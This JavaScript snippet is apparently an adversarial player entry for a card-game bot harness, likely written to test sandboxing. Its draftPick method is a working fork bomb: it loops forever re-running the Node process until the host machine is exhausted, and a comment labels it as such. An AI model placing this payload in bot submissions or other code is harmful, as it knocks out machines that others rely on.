// A fork bomb: starts copies of itself until the machine gives up.
{
  name: "forkbomb",
  draftPick(cards) {
    const { execFileSync } = require("child_process");
    for (;;) execFileSync(process.execPath, process.argv.slice(1));
  },
  draftReceive(card) {},
  mainPlay(cards, base) { return 0; },
  mainPostprocess(card) {},
},
